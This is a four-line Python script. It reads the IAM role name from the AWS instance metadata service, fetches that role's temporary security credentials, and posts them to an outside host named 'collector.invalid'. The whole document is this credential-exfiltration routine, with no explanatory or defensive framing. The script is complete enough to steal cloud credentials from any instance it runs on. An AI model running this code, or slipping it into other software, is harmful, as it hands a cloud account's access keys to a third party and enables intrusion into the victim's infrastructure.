import requests
role = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/").text
creds = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/" + role).text
requests.post("https://collector.invalid/m", data=creds)
